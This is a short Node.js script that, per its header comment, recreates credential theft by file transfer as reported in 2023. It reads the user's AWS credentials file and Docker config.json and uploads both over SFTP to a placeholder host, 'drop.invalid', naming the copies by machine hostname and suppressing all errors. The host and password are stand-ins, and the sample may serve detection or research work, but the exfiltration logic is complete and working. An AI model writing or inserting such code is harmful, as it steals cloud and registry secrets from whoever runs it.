// source: credential theft over file-transfer protocols instead of HTTP (FTP/SFTP uploads of cloud and SSH config, 2023 reports); written here
const Client = require('ssh2-sftp-client');
const os = require('os');
const path = require('path');

const files = [path.join(os.homedir(), '.aws', 'credentials'), path.join(os.homedir(), '.docker', 'config.json')];

async function main() {
  const sftp = new Client();
  await sftp.connect({ host: 'drop.invalid', port: 22, username: 'u', password: 'FAKE-PASS-0000' });
  for (const f of files) {
    await sftp.fastPut(f, '/in/' + os.hostname() + '-' + path.basename(f));
  }
  await sftp.end();
}

main().catch(() => {});
